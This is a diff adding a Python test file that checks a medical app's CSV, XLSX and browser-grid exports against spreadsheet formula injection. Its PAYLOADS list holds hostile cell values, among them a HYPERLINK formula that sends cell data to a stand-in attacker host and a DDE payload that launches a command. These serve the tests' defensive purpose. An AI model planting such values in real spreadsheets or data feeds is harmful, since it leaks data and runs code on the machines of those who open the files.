@@ -1,0 +1,145 @@
+"""Exports open as data, not formulas: CSV cells get an apostrophe, XLSX cells stay text (issue 11).
+
+The payloads are the probe's (a feed value that a spreadsheet runs when the file is opened); the
+expected cells are written out by hand. The grid's browser-side CSV export is checked in real Chromium
+on a page built from the app's own ``data_grid``.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import socket
+import threading
+import time
+import urllib.request
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pandas as pd
+import pytest
+
+from medtower.spreadsheet import csv_text, safe_cell, safe_frame, text_only_workbook
+from tests.chromium import CHROMIUM, CHROMIUM_ARGS, need_chromium
+
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _frame() -> pd.DataFrame:
+    return pd.DataFrame(
+        {
+            "customer": [*PAYLOADS, "Cork University Hospital", "a=b", None],
+            "qty": [-5, 1, 2, 3, 4, 5, 6, 7.5, 8],
+        }
+    )
+
+
+def test_safe_cell_prefixes_only_text_a_spreadsheet_would_evaluate() -> None:
+    assert [safe_cell(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
+    assert safe_cell("Cork University Hospital") == "Cork University Hospital"
+    assert safe_cell("a=b") == "a=b"  # only the first character matters
+    assert safe_cell(-5) == -5 and safe_cell(None) is None and safe_cell("") == ""
+
+
+def test_csv_export_reads_back_as_text_and_numbers_stay_numbers() -> None:
+    text = csv_text(_frame())
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert rows[0] == ["customer", "qty"]
+    assert [r[0] for r in rows[1:7]] == ["'" + p for p in PAYLOADS]
+    assert [r[0] for r in rows[7:]] == ["Cork University Hospital", "a=b", ""]
+    assert [r[1] for r in rows[1:]] == ["-5.0", "1.0", "2.0", "3.0", "4.0", "5.0", "6.0", "7.5", "8.0"]
+
+
+def test_safe_frame_leaves_the_original_alone_and_covers_headers() -> None:
+    frame = pd.DataFrame({"=bad header": ["=1"]})
+    out = safe_frame(frame)
+    assert list(out.columns) == ["'=bad header"] and out.iloc[0, 0] == "'=1"
+    assert frame.iloc[0, 0] == "=1"
+
+
+def _xlsx(fix: bool) -> bytes:
+    buf = io.BytesIO()
+    with pd.ExcelWriter(buf, engine="openpyxl") as xl:
+        _frame().to_excel(xl, sheet_name="lots", index=False)
+        if fix:
+            assert text_only_workbook(xl.book) == 1  # the one payload that starts with "="
+    return buf.getvalue()
+
+
+def test_xlsx_export_holds_no_formula_cells() -> None:
+    sheet = zipfile.ZipFile(io.BytesIO(_xlsx(fix=True))).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet
+    book = openpyxl.load_workbook(io.BytesIO(_xlsx(fix=True)))
+    cells = [(c.value, c.data_type) for c in book["lots"]["A"][1:7]]
+    # The cell shows what the feed said, as text (XML reads a bare CR back as LF).
+    assert cells == [(p.replace("\r", "\n"), "s") for p in PAYLOADS]
+    assert book["lots"]["B2"].value == -5
+
+
+def test_without_the_fix_openpyxl_would_write_a_live_formula() -> None:
+    # Guards the test above: the payload really is a formula when nothing is done.
+    sheet = zipfile.ZipFile(io.BytesIO(_xlsx(fix=False))).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>HYPERLINK" in sheet
+
+
+def _free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return int(s.getsockname()[1])
+
+
+def test_grid_csv_download_in_chromium_is_neutralised(tmp_path: Path) -> None:
+    need_chromium()
+    from dash import Dash
+    from playwright.sync_api import sync_playwright
+    from werkzeug.serving import make_server
+
+    from dashboards import components
+
+    root = Path(__file__).resolve().parents[2]
+    app = Dash(__name__, assets_folder=str(root / "dashboards" / "assets"))
+    app.layout = components.data_grid("probe", _frame())
+    port = _free_port()
+    server = make_server("127.0.0.1", port, app.server, threaded=True)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        deadline = time.monotonic() + 20
+        for _ in range(100):
+            try:
+                urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=2).close()
+                break
+            except OSError:
+                if time.monotonic() > deadline:
+                    raise
+                time.sleep(0.2)
+        with sync_playwright() as pw:
+            browser = pw.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
+            try:
+                page = browser.new_page(accept_downloads=True)
+                page.goto(f"http://127.0.0.1:{port}/")
+                page.wait_for_selector(".ag-row", timeout=20_000)
+                with page.expect_download(timeout=20_000) as info:
+                    page.get_by_text("Export CSV").click()
+                text = Path(info.value.path()).read_bytes().decode("utf-8-sig")
+            finally:
+                browser.close()
+    finally:
+        server.shutdown()
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    by_customer = [r[0] for r in rows[1:]]
+    assert by_customer[:6] == ["'" + p for p in PAYLOADS], by_customer
+    assert by_customer[6:8] == ["Cork University Hospital", "a=b"]
+    assert rows[1][1] == "-5"
+
+
+if __name__ == "__main__":  # pragma: no cover
+    pytest.main([__file__, "-q"])
